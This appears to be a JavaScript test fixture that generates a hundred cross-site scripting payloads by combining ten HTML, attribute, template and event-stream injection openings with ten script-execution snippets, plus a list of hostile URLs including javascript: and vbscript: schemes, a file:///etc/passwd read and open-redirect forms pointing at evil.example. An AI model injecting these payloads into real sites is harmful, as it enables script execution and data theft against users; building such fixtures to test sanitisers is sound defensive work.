/** A hundred ways to get a script run from a text: ten openings, each with ten things to run or to break out by. */

const OPENINGS = [
  '<script>X</script>',
  '<img src=x onerror="X">',
  '"><svg onload="X">',
  "'><details open ontoggle='X'>",
  '</textarea></style><iframe srcdoc="<script>X</script>"></iframe>',
  '<a href="javascript:X">y</a>',
  '{{X}}<%X%>$' + '{X}',
  '</script><script>X</script><!--',
  '<math><mtext><style><img src onerror=X></style></mtext></math>',
  '\n\nevent: done\ndata: <img src onerror=X>\n\n',
];
const RUNNING = [
  'alert(1)',
  'window.ran=1',
  'parent.ran=1',
  'top.ran=1',
  'confirm`1`',
  'eval("ran=1")',
  'prompt(1)//',
  'import("data:text/javascript,ran=1")',
  'setTimeout("ran=1")',
  'document.body.ran=1;/*﻿\u2028\u202e*/',
];

export const PAYLOADS = OPENINGS.flatMap((opening) => RUNNING.map((run) => opening.replaceAll('X', run)));

export const ADDRESSES = [
  'javascript:window.ran=1',
  'JaVaScRiPt:window.ran=1',
  'java\nscript:window.ran=1',
  ' javascript:window.ran=1',
  'data:text/html,<script>window.ran=1</script>',
  'vbscript:window.ran=1',
  'file:///etc/passwd',
  '//evil.example/\u0000',
  '/\\evil.example',
  'blob:x',
];
